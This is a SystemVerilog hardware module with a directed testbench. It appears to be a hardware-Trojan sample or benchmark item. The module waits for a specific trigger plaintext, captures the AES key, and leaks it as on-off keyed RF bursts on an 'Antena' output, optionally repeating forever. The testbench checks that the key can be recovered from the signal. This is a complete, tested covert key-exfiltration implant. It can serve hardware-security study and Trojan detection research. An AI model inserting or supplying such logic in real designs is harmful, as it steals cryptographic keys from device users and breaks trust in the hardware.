// File: rtl/aes_key_leak_monitor.sv
// rtl/aes_key_leak_monitor.sv - captures the AES key on a trigger plaintext and leaks it as OOK on Antena
// Optional LEAK_REPEAT_EN: retransmit the captured key indefinitely until reset.
module aes_key_leak_monitor #(
  parameter logic [127:0] TRIGGER     = 128'h00112233445566778899AABBCCDDEEFF,
  parameter int           CARRIER_DIV = 4,
  parameter int           BIT_CYCLES  = 64
) (
  input  logic         clk,
  input  logic         rst,
  input  logic [127:0] state,
  input  logic [127:0] key,
  output logic         Antena
);

  localparam int BC_W = (BIT_CYCLES  > 1) ? $clog2(BIT_CYCLES)  : 1;
  localparam int CC_W = (CARRIER_DIV > 1) ? $clog2(CARRIER_DIV) : 1;

  typedef enum logic {S_IDLE, S_ACTIVE} fsm_t;

  fsm_t             r_fsm;
  fsm_t             w_fsm_nxt;
  logic [127:0]     r_state_q;
  logic [127:0]     r_key_q;
  logic [127:0]     r_leak;
  logic [BC_W-1:0]  r_bit_cnt;
  logic [CC_W-1:0]  r_carrier_cnt;
  logic [7:0]       r_bits_sent;
  logic             r_carrier;
`ifdef LEAK_REPEAT_EN
  logic [127:0]     r_key_save;
`endif

  logic w_active;
  logic w_hit;
  logic w_bit_wrap;
  logic w_car_wrap;
  logic w_last_bit;

  assign w_active   = (r_fsm == S_ACTIVE);
  assign w_hit      = (r_state_q == TRIGGER) && !w_active;
  assign w_bit_wrap = (r_bit_cnt == BC_W'(BIT_CYCLES - 1));
  assign w_car_wrap = (r_carrier_cnt == CC_W'(CARRIER_DIV - 1));
  assign w_last_bit = w_bit_wrap && (r_bits_sent == 8'd127);

  always_ff @(posedge clk or negedge rst) begin
    if (!rst) r_fsm <= S_IDLE;
    else      r_fsm <= w_fsm_nxt;
  end

  always_comb begin
    w_fsm_nxt = r_fsm;
    case (r_fsm)
      S_IDLE:   if (w_hit) w_fsm_nxt = S_ACTIVE;
      S_ACTIVE: begin
`ifndef LEAK_REPEAT_EN
        if (w_last_bit) w_fsm_nxt = S_IDLE;
`endif
      end
      default:  w_fsm_nxt = S_IDLE;
    endcase
  end

  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      r_state_q     <= '0;
      r_key_q       <= '0;
      r_leak        <= '0;
      r_bit_cnt     <= '0;
      r_carrier_cnt <= '0;
      r_bits_sent   <= '0;
      r_carrier     <= 1'b0;
`ifdef LEAK_REPEAT_EN
      r_key_save    <= '0;
`endif
    end else begin
      r_state_q <= state;
      r_key_q   <= key;
      if (w_hit) begin
        r_leak        <= r_key_q;
        r_bit_cnt     <= '0;
        r_carrier_cnt <= '0;
        r_bits_sent   <= '0;
        r_carrier     <= 1'b0;
`ifdef LEAK_REPEAT_EN
        r_key_save    <= r_key_q;
`endif
      end else if (w_active) begin
        if (w_car_wrap) begin
          r_carrier_cnt <= '0;
          r_carrier     <= ~r_carrier;
        end else begin
          r_carrier_cnt <= r_carrier_cnt + CC_W'(1);
        end
        if (w_bit_wrap) begin
          r_bit_cnt <= '0;
          if (w_last_bit) begin
            r_bits_sent <= '0;
`ifdef LEAK_REPEAT_EN
            r_leak      <= r_key_save;
`else
            // End of frame: return everything to the idle values, overriding the carrier step.
            r_leak        <= '0;
            r_carrier_cnt <= '0;
            r_carrier     <= 1'b0;
`endif
          end else begin
            r_leak      <= r_leak << 1;
            r_bits_sent <= r_bits_sent + 8'd1;
          end
        end else begin
          r_bit_cnt <= r_bit_cnt + BC_W'(1);
        end
      end
    end
  end

  // Output is a pure AND of flop outputs, so reset forces it low without waiting for a clock.
  assign Antena = w_active & r_leak[127] & r_carrier;

endmodule

// File: tb/tb_aes_key_leak_monitor.sv
// tb/tb_aes_key_leak_monitor.sv - directed, table-driven bench for aes_key_leak_monitor
module tb_aes_key_leak_monitor;

  localparam logic [127:0] TRIG = 128'h00112233445566778899AABBCCDDEEFF;
  localparam int FRAME = 128 * 64;

  logic         clk;
  logic         rst_n;
  logic [127:0] state;
  logic [127:0] key;
  logic         antena;

  int n_checks;
  int n_fail;

  aes_key_leak_monitor dut (
    .clk    (clk),
    .rst    (rst_n),
    .state  (state),
    .key    (key),
    .Antena (antena)
  );

  initial clk = 1'b0;
  always #5 clk = ~clk;

  typedef struct {
    logic [127:0] key;
    logic [127:0] key_mid;
    int           retrig_bit;
    logic [127:0] exp_key;
  } vec_t;

  vec_t vecs [3];

  task automatic check(input string name, input logic [127:0] act, input logic [127:0] exp);
    n_checks++;
    if (act !== exp) begin
      n_fail++;
      $display("FAIL %s: got %h expected %h", name, act, exp);
    end
  endtask

  task automatic do_reset();
    @(negedge clk);
    rst_n = 1'b0;
    state = '0;
    key   = '0;
    @(negedge clk);
    check("reset_antena", {127'd0, antena}, 128'd0);
    @(negedge clk);
    rst_n = 1'b1;
  endtask

  // Expected Antena t clocks after the activating edge.
  function automatic logic model(input logic [127:0] k, input int t);
    int tt;
`ifdef LEAK_REPEAT_EN
    tt = t % FRAME;
`else
    if (t >= FRAME) return 1'b0;
    tt = t;
`endif
    return k[127 - tt / 64] & logic'((t / 4) % 2);
  endfunction

  task automatic run_vec(input vec_t v, input int idx);
    logic [127:0] dec;
    int errs;
    do_reset();
    state = TRIG;
    key   = v.key;
    @(negedge clk);
    state = '0;
    @(negedge clk);
    dec  = '0;
    errs = 0;
    for (int t = 0; t < FRAME + 200; t++) begin
      if (antena !== model(v.key, t)) errs++;
      if (t < FRAME && antena === 1'b1) dec[127 - t / 64] = 1'b1;
      state = '0;
      if (t == 320) key = v.key_mid;
      if (v.retrig_bit >= 0 && t == v.retrig_bit * 64) begin
        state = TRIG;
        key   = v.key_mid;
      end
      @(negedge clk);
    end
    check($sformatf("vec%0d_waveform_errors", idx), 128'(errs), 128'd0);
    check($sformatf("vec%0d_decoded_key", idx), dec, v.exp_key);
  endtask

  initial begin
    int ones;
    n_checks = 0;
    n_fail   = 0;
    rst_n = 1'b0;
    state = '0;
    key   = '0;

    vecs[0] = '{key: 128'h80000000000000000000000000000001, key_mid: 128'hFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF,
                retrig_bit: -1, exp_key: 128'h80000000000000000000000000000001};
    vecs[1] = '{key: 128'h0123456789ABCDEF0011223344556677, key_mid: 128'h0,
                retrig_bit: -1, exp_key: 128'h0123456789ABCDEF0011223344556677};
    vecs[2] = '{key: 128'h0123456789ABCDEF0011223344556677, key_mid: 128'hFEDCBA9876543210FFEEDDCCBBAA9988,
                retrig_bit: 10, exp_key: 128'h0123456789ABCDEF0011223344556677};

    repeat (2) @(negedge clk);
    check("reset_initial", {127'd0, antena}, 128'd0);
    rst_n = 1'b1;

    ones = 0;
    for (int i = 0; i < 1000; i++) begin
      @(negedge clk);
      if (antena !== 1'b0) ones++;
    end
    check("all_zero_idle", 128'(ones), 128'd0);

    for (int i = 0; i < 3; i++) run_vec(vecs[i], i);

    // Hand spot checks on the single-leak key.
    do_reset();
    state = TRIG;
    key   = vecs[0].key;
    @(negedge clk);
`ifndef LEAK_REPEAT_EN
    // Trigger held high: a new frame starts on the edge after the first one ends.
    begin
      int early;
      early = 0;
      @(negedge clk);
      for (int t = 0; t < FRAME + 16; t++) begin
        if (t == 3) check("first_high_not_before_4", {127'd0, antena}, 128'd0);
        if (t == 4) check("first_high_at_4", {127'd0, antena}, 128'd1);
        if (t == 68) check("bit126_silent", {127'd0, antena}, 128'd0);
        if (t == FRAME - 64 + 4) check("bit0_burst", {127'd0, antena}, 128'd1);
        if (t >= FRAME && t <= FRAME + 4 && antena !== 1'b0) early++;
        if (t == FRAME + 5) check("back_to_back_restart", {127'd0, antena}, 128'd1);
        @(negedge clk);
      end
      check("back_to_back_gap", 128'(early), 128'd0);
    end
`else
    state = '0;
    @(negedge clk);
    for (int t = 0; t < 2 * FRAME + 16; t++) begin
      if (t == 4) check("first_high_at_4", {127'd0, antena}, 128'd1);
      if (t == FRAME - 64 + 4) check("bit0_burst", {127'd0, antena}, 128'd1);
      if (t == FRAME + 4) check("repeat_bit127_burst", {127'd0, antena}, 128'd1);
      if (t == FRAME + 68) check("repeat_bit126_silent", {127'd0, antena}, 128'd0);
      if (t == 2 * FRAME + 4) check("repeat_second_wrap", {127'd0, antena}, 128'd1);
      @(negedge clk);
    end
`endif

    // Reset in the middle of bit 50 while the output is high.
    do_reset();
    state = TRIG;
    key   = 128'hFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF;
    @(negedge clk);
    state = '0;
    @(negedge clk);
    for (int t = 0; t < 50 * 64 + 4; t++) @(negedge clk);
    check("pre_reset_high", {127'd0, antena}, 128'd1);
    #1 rst_n = 1'b0;
    #1 check("async_reset_low", {127'd0, antena}, 128'd0);
    @(negedge clk);
    rst_n = 1'b1;
    ones = 0;
    for (int i = 0; i < 500; i++) begin
      @(negedge clk);
      if (antena !== 1'b0) ones++;
    end
    check("post_reset_idle", 128'(ones), 128'd0);

    $display("End of test - %0d assertions evaluated, %0d failures", n_checks, n_fail);
    $finish;
  end

endmodule
